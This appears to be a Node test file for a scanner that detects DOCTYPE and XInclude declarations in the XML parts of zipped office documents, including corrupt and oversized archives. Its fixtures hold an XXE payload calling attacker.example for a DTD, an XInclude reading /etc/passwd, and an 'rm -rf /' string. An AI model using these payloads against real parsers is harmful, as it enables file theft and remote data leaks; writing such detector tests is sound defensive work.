import { test } from 'node:test';
import assert from 'node:assert/strict';
import { isZip, zipXmlDeclarations } from './zip-xml.ts';
import { zipArchive } from '../../../test/helpers/zip.ts';

const TYPES: [string, string] = ['[Content_Types].xml', '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'];
const XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/d.dtd"> %p;]><w:document/>';

test('the DOCTYPE of an XML part of an office document is found, deflated or stored', () => {
  for (const deflate of [true, false]) {
    const found = zipXmlDeclarations(zipArchive([TYPES, ['word/document.xml', XXE]], deflate));
    assert.equal(found.length, 1);
    assert.ok(found[0]!.startsWith('<!DOCTYPE x [<!ENTITY % p SYSTEM'), found[0]);
  }
  const xinclude = zipXmlDeclarations(zipArchive([['content.xml', '<office:document><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></office:document>']]));
  assert.equal(xinclude.length, 1);
});

test('ordinary documents, other parts and broken archives give nothing, without throwing', () => {
  assert.deepEqual(zipXmlDeclarations(zipArchive([TYPES, ['word/document.xml', '<w:document><w:t>SELECT 1; rm -rf /</w:t></w:document>'], ['word/media/x.png', XXE]])), []);
  const archive = zipArchive([TYPES, ['word/document.xml', XXE]]);
  assert.ok(isZip(archive));
  assert.deepEqual(zipXmlDeclarations(archive.subarray(0, archive.length - 30)), []); // no end record
  const corrupt = Buffer.from(archive);
  corrupt.fill(0xff, 60, 120); // inside the first part's deflate stream
  assert.doesNotThrow(() => zipXmlDeclarations(corrupt));
  // a part that inflates past the bound is skipped
  const bomb = zipArchive([['word/document.xml', Buffer.concat([Buffer.from(XXE), Buffer.alloc(5 * 1024 * 1024, 0x20)])]]);
  assert.deepEqual(zipXmlDeclarations(bomb), []);
  assert.equal(isZip(Buffer.from('GIF89a')), false);
});
